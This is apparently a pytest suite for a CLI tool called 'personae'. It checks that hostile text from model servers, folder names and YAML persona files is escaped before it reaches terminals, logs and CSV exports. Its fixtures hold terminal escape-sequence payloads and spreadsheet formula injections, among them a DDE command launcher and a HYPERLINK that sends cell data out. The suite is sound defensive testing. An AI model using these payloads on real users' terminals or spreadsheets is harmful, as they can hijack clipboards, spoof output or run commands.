"""In processes of their own: nothing of others reaches a terminal, a log or a spreadsheet as it stands."""

from __future__ import annotations

import csv
import json
import os
import pty
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import polars as pl
import pytest
from polars.testing import assert_frame_equal
from typer.testing import CliRunner

from personae.cli import app
from personae.cli.terminal import styled

pytestmark = pytest.mark.slow

HOSTILE = "\x1b]52;c;aGk=\x07\x1b]8;;http://a.b\x1b\\x\x1b]0;title\x07\x1bc\x9b2J\x85\u202eevil\u2066\u2028\x7f"
FORMULA = "=HYPERLINK(\"http://a.b/?\"&A1);=cmd|' /C calc'!A0\n@SUM(1)"
FOLDER = b"run\x1b]0;t\x07\xc2\x9b2J\xe2\x80\xae\nx"
PERSONAS = """title: t
personas:
  - {name: '=HYPERLINK(A1,"x")', group: '+1'}
  - {name: '@SUM(1)', group: '-1'}
  - {name: "-1 \\u200d+cmd", group: "=1"}
pairs: none
"""


class Server(ThreadingHTTPServer):
    """Says what it is told to say, to every question."""

    status, answer = 200, "A"


class Handler(BaseHTTPRequestHandler):
    server: Server

    def do_GET(self) -> None:
        self.reply(200, {"data": []})

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        said = {"choices": [{"message": {"role": "assistant", "content": self.server.answer}, "finish_reason": "stop"}]}
        self.reply(
            self.server.status, said if self.server.status == 200 else {"error": {"message": self.server.answer}}
        )

    def reply(self, status: int, body: object) -> None:
        raw = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def server() -> Iterator[Server]:
    with Server(("127.0.0.1", 0), Handler) as started:
        thread = threading.Thread(target=started.serve_forever)
        thread.start()
        yield started
        started.shutdown()
        thread.join()


def model(server: Server) -> str:
    return f"vllm/m@http://127.0.0.1:{server.server_address[1]}/v1"


def personae(*arguments: str | bytes | Path) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "personae", *arguments]
    return subprocess.run(command, capture_output=True, check=False)


def inert(raw: bytes) -> str:
    """What was printed, once it is seen to hold nothing that a terminal obeys but line ends."""
    said = raw.decode()
    assert said.replace("\n", "").isprintable(), said
    return said


def both(done: subprocess.CompletedProcess[bytes]) -> str:
    return inert(done.stdout) + inert(done.stderr)


@pytest.mark.skipif(sys.platform != "linux", reason="other file systems refuse such names")
def test_a_folder_of_any_name_is_run_scored_and_exported(tmp_path: Path) -> None:
    folder = os.fsencode(tmp_path) + b"/" + FOLDER
    done = personae("run", "companions.emotion", "-m", "sim/neutral", "-o", folder)
    assert done.returncode == 0, done.stderr
    assert r"run\x1b]0;t\x07\x9b2J\u202e\nx" in both(done)
    for verb in (["score", folder], ["export", folder, "--to", "jsonl"]):
        done = personae(*verb)
        assert done.returncode == 0, done.stderr
        assert r"\x1b]0;t" in both(done)
    done = personae("run", "companions.emotion", "-m", "sim/neutral", "-o", folder + b"\xff")
    assert done.returncode == 2
    assert r"\udcff'; a folder whose name is UTF-8" in both(done)
    data = json.loads(inert(personae("export", folder, "--to", "jsonl", "--json").stdout))
    assert all(os.fsencode(file).startswith(folder) for file in data["files"])
    assert all(Path(file).is_file() for file in data["files"])


@pytest.mark.parametrize(
    "yaml",
    ["title: '{}'\npersonas: []\n", "'{}': 1\n", "{}", "title: t\npersonas: [{{name: x, group: y, '{}': 1}}]\n"],
)
def test_a_file_of_hostile_fields_is_refused_in_plain_words(tmp_path: Path, yaml: str) -> None:
    path = tmp_path / "given.yaml"
    path.write_text(yaml.format(HOSTILE), encoding="utf-8")
    escaped = tmp_path / "escaped.yaml"
    escaped.write_text(yaml.replace("'", '"').format(json.dumps(HOSTILE)[1:-1].replace("\\u0", "\\x")[:40]), "utf-8")
    for option in ("--personas", "--spec"):
        for file in (path, escaped):
            done = CliRunner().invoke(app, ["plan", "companions.iat", "-m", "sim/neutral", option, str(file)])
            assert done.exit_code == 2, done.exception
            assert inert(done.output_bytes).count("\n") == 1


def test_what_a_server_says_in_its_errors_is_spelt_out(server: Server, tmp_path: Path) -> None:
    server.status, server.answer = 500, HOSTILE
    out = tmp_path / "run"
    done = personae("run", "companions.emotion", "-m", model(server), "--retries", "0", "-o", out)
    assert done.returncode == 3
    said = both(done)
    assert "ended in error: HTTP 500" in said
    assert "evil" in said
    page = (out / "report.html").read_text(encoding="utf-8")
    assert not set(page) & set("\x1b\x07\x9b\x85\u202e\u2066\u2028\x7f")
    assert both(personae("score", out))


def test_on_a_terminal_only_the_sequences_of_its_own_bar_are_written(server: Server, tmp_path: Path) -> None:
    server.status, server.answer = 500, HOSTILE
    done = (
        "run",
        "companions.emotion",
        "-m",
        f"{model(server)}",
        "--retries",
        "0",
        "-o",
        str(tmp_path / "run\x1b]0;t\x07"),
    )
    reading, writing = pty.openpty()
    with subprocess.Popen([sys.executable, "-m", "personae", *done], stdout=writing, stderr=writing) as running:
        os.close(writing)
        written = b""
        try:
            while chunk := os.read(reading, 1 << 16):
                written += chunk
        except OSError:  # the other side is closed, which Linux tells as an error
            pass
        os.close(reading)
    said = written.decode()
    assert running.returncode == 3
    assert "\x1b[" in said
    assert styled(said) == said
    assert "\x07" not in said


BROKEN = """
import logging, sys, threading, warnings
from personae.cli import app, listing, main
hostile = {hostile!r}

def broken():
    print(hostile, file=sys.stderr)
    warnings.warn(hostile)
    logging.getLogger("other").warning("%s", hostile)
    thread = threading.Thread(target=lambda: 1 / len(hostile[:0]), name=hostile)
    thread.start()
    thread.join()
    raise ValueError(hostile)

listing._studies = broken
sys.argv = ["personae", "studies"]
main()
"""


def test_warnings_logs_and_traces_are_spelt_out() -> None:
    program = BROKEN.format(hostile=HOSTILE)
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, check=False)
    assert done.returncode == 1
    said = both(done)
    assert said.count(r"\x1b]52;c;aGk=") == 5
    for part in ("UserWarning", "ZeroDivisionError", "ValueError", "Traceback (most recent call last)"):
        assert part in said


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run whose personas and whose answers are formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "personas.yaml").write_text(PERSONAS, encoding="utf-8")
    with Server(("127.0.0.1", 0), Handler) as started:
        started.answer = FORMULA
        thread = threading.Thread(target=started.serve_forever)
        thread.start()
        asked = (
            "companions.sycophancy",
            "--personas",
            folder / "personas.yaml",
            "-m",
            model(started),
            "--respond",
            "free",
        )
        done = personae("run", *asked, "-o", folder / "run")
        started.shutdown()
        thread.join()
    assert done.returncode == 0, done.stderr
    return folder / "run"


def live(path: Path) -> list[str]:
    """Cells that a spreadsheet would compute, by whatever separator it reads the file; numbers are none."""
    numbers = {name for name, kind in pl.read_csv(path, infer_schema_length=None).schema.items() if kind.is_numeric()}
    with path.open(encoding="utf-8", newline="") as file:
        cells = [value for row in csv.DictReader(file) for name, value in row.items() if name not in numbers]
    begun = [part for cell in cells for part in (cell, *cell.replace("\n", ";").replace("\t", ";").split(";"))]
    return [cell for cell in begun if cell.lstrip(" \t\r\n\"',").startswith(tuple("=+-@")) and "'" not in cell[:3]]


def test_no_cell_of_any_table_is_a_formula(run: Path, tmp_path: Path) -> None:
    done = personae("export", run, "--to", "csv", "-o", tmp_path)
    assert done.returncode == 0, done.stderr
    files = [*tmp_path.glob("*.csv"), *(run / "tables").glob("*.csv"), *(run / "figures").glob("*.csv")]
    assert len(files) >= 5
    assert {str(file): live(file)[:3] for file in files if live(file)} == {}
    texts = pl.read_csv(tmp_path / "responses.csv")["text"]
    assert texts.str.starts_with("'=HYPERLINK").all()


def test_numbers_stay_numbers(run: Path, tmp_path: Path) -> None:
    assert personae("export", run, "--to", "csv", "-o", tmp_path).returncode == 0
    columns = ["value", "lower", "upper"]
    estimates = pl.read_csv(tmp_path / "estimates.csv", infer_schema_length=None).select(columns)
    assert_frame_equal(estimates, pl.read_parquet(run / "tables" / "estimates.parquet").select(columns))
    assert estimates["lower"].min() < 0


def test_programs_get_the_texts_as_they_stand(run: Path, tmp_path: Path) -> None:
    assert personae("export", run, "--to", "csv", "--raw", "-o", tmp_path / "raw").returncode == 0
    for form in ("parquet", "jsonl"):
        assert personae("export", run, "--to", form, "-o", tmp_path).returncode == 0
    raw = pl.read_csv(tmp_path / "raw" / "responses.csv", infer_schema_length=None)
    for frame in (raw, pl.read_parquet(tmp_path / "responses.parquet"), pl.read_ndjson(tmp_path / "responses.jsonl")):
        assert set(frame["text"]) == {FORMULA}
    personas = {name for name in pl.read_parquet(tmp_path / "outcomes.parquet")["persona"] if name}
    assert personas == {'=HYPERLINK(A1,"x")', "@SUM(1)", "-1 \u200d+cmd"}
    lines = (tmp_path / "outcomes.jsonl").read_text(encoding="utf-8")
    assert lines.replace("\n", "").isprintable()
    assert {name for name in pl.read_ndjson(tmp_path / "outcomes.jsonl")["persona"] if name} == personas
    done = personae("export", run, "--to", "parquet", "--raw", "-o", tmp_path)
    assert done.returncode == 2
    assert "--raw" in both(done)


def test_no_name_of_others_becomes_a_path(run: Path) -> None:
    names = [path.name for path in (run / "figures").iterdir()]
    assert names
    assert all(name.replace("-", "").replace(".", "").isalnum() and name.isascii() for name in names)
